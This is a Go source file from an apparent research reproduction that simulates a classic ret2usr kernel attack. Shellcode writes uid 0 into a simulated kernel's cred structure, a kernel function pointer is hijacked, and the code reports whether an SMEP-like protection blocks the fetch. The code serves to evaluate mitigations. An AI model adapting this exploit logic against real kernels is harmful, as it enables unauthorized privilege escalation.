@@ -1,0 +1,72 @@
+package attack
+
+import (
+	"fmt"
+
+	"repro/internal/ir"
+	"repro/internal/isa"
+	"repro/internal/kernel"
+	"repro/internal/link"
+	"repro/internal/mem"
+)
+
+// shellcodeAddr is where the attacker stages their user-space payload.
+const shellcodeAddr uint64 = 0x0000000000450000
+
+// Ret2usr mounts the classic return-to-user attack the paper's threat model
+// assumes already mitigated (§1, §3): the attacker overwrites a kernel
+// function pointer with the address of *user-space* shellcode and triggers
+// the dereference. Because the kernel and user share the address space, a
+// kernel without SMEP/KERNEXEC/kGuard happily executes attacker-controlled
+// memory with kernel rights; with SMEP the fetch faults. The shellcode
+// writes uid=0 straight into the kernel cred structure (no gadgets needed —
+// that is what makes ret2usr the historical "de facto" technique).
+func Ret2usr(target *kernel.Kernel) Result {
+	res := Result{Name: "ret2usr", Stage: "shellcode-staging"}
+
+	// Assemble the shellcode: cred.uid = 0; ret. The attacker knows the
+	// cred address from their own kernel copy (data is not randomized).
+	sc, err := ir.NewBuilder("shellcode").
+		I(
+			isa.MovRI(isa.R8, int64(target.Sym("cred"))),
+			isa.MovRI(isa.RAX, 0),
+			isa.Store(isa.Mem(isa.R8, 0), isa.RAX),
+			isa.Ret(),
+		).Func()
+	if err != nil {
+		res.Detail = err.Error()
+		return res
+	}
+	obj, err := link.LinkObject(&ir.Program{Funcs: []*ir.Function{sc}}, shellcodeAddr, shellcodeAddr+0x1000, map[string]uint64{})
+	if err != nil {
+		res.Detail = err.Error()
+		return res
+	}
+	// Stage it in user memory (attacker-controlled pages).
+	if !target.Space.AS.Mapped(shellcodeAddr) {
+		if _, err := target.Space.AS.Map(shellcodeAddr, 1, mem.PermRX); err != nil {
+			res.Detail = err.Error()
+			return res
+		}
+	}
+	if err := target.Space.AS.Poke(shellcodeAddr, obj.Text); err != nil {
+		res.Detail = err.Error()
+		return res
+	}
+
+	// Corrupt the kernel function pointer and trigger.
+	res.Stage = "hijack"
+	a := &Attacker{K: target}
+	r := a.Hijack(shellcodeAddr, 0)
+	if a.UID() == 0 {
+		res.Success = true
+		res.Detail = "kernel executed user-space shellcode (no SMEP)"
+		return res
+	}
+	how := "hijack failed"
+	if r.Run != nil && r.Run.Trap != nil {
+		how = fmt.Sprintf("fetch blocked: %v", r.Run.Trap)
+	}
+	res.Detail = how
+	return res
+}
